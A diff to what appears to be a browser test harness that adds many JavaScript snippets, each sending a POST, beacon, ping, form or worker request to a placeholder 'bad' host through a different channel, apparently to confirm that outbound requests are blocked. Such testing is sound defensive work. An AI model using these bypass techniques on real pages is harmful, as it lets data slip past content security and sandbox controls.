@@ -82,15 +82,40 @@ CHANGES = {
     "other method to log in": "fetch(here + '/login', {method: 'PUT', body: 'x'})",
     "beacon at the end": "addEventListener('pagehide', () => navigator.sendBeacon(bad, 'x'))",
     "kept alive at the end": "addEventListener('pagehide', () => post(bad, {keepalive: true}))",
+    "later": "fetchLater(bad, {method: 'POST', body: 'x', activateAfter: 0})",
+    "later, at the end": "fetchLater(bad, {method: 'POST', body: 'x'})",
+    "XMLHttpRequest": "{ const x = new XMLHttpRequest(); x.open('POST', bad); x.send('x') }",
+    "XMLHttpRequest that waits": "{ const x = new XMLHttpRequest(); x.open('PUT', bad, false); x.send('x') }",
+    "worker's XMLHttpRequest": "worker(Worker, `let x = new XMLHttpRequest(); x.open('POST', '${bad}'); x.send('x')`)",
+    "worker's worker": "worker(Worker, `new Worker('data:text/javascript,' + encodeURIComponent(\"${posts(bad)}\"))`)",
+    "module": "new Worker(script(posts(bad)), {type: 'module'})",
+    "import of a module": "new Worker(script(`import '${here}${script(posts(bad))}'`), {type: 'module'})",
+    "script of a worker": "worker(Worker, `importScripts('${here}${script(posts(bad))}')`)",
+    "multipart form": "form(bad, 'post', 'multipart/form-data')",
+    "button of a form": """{
+      const f = tag('form'), b = document.createElement('button'); b.formAction = bad; b.formMethod = 'post';
+      f.target = '_blank'; f.append(b); f.requestSubmit(b) }""",
+    "ping of an area": "{ const m = tag('map'); m.innerHTML = `<area href='#y' ping='${bad}'>`; m.firstChild.click() }",
+    "frame's beacon": "tag('iframe').contentWindow.navigator.sendBeacon(bad, 'x')",
+    "frame in a sandbox": "{ const f = tag('iframe'); f.sandbox = 'allow-scripts'; f.srcdoc = html(bad) }",
+    "popup": "open('').fetch(bad, {method: 'POST', body: 'x'})",
+    "popup of a blob": "open(URL.createObjectURL(new Blob([html(bad)], {type: 'text/html'})))",
+    "PATCH": "fetch(bad, {method: 'PATCH', body: 'x'})",
+    "measured": "post(bad, {attributionReporting: {eventSourceEligible: true, triggerEligible: true}})",
+    "report": "tag('img').src = '/refused.png?' + encodeURIComponent(bad)",
 }
 
 RUN = """([ways, tags, base, here, wait]) => {
   const tag = name => document.body.appendChild(document.createElement(name));
   const frame = url => { const f = tag('iframe'); f.src = url; return f };
   const worker = (Kind, code) => new Kind(URL.createObjectURL(new Blob([code], {type: 'text/javascript'})));
-  const form = (url, method) => {
+  const script = code => '/worker.js?code=' + encodeURIComponent(code).replaceAll("'", '%27');
+  const posts = url => `fetch('${url}', {method: 'POST', mode: 'no-cors', body: 'x'})`;
+  const html = url => `<script>${posts(url)}</` + 'script>';
+  const form = (url, method, coded = 'application/x-www-form-urlencoded') => {
     const f = tag('form'), into = frame('about:blank');
-    into.name = 'f' + Math.random(); f.action = url; f.method = method; f.target = into.name; f.submit() };
+    into.name = 'f' + Math.random(); f.action = url; f.method = method; f.enctype = coded;
+    f.target = into.name; f.submit() };
   const rtc = server => {
     const p = new RTCPeerConnection({iceServers: [server]}); p.createDataChannel('x');
     p.createOffer().then(o => p.setLocalDescription(o)) };
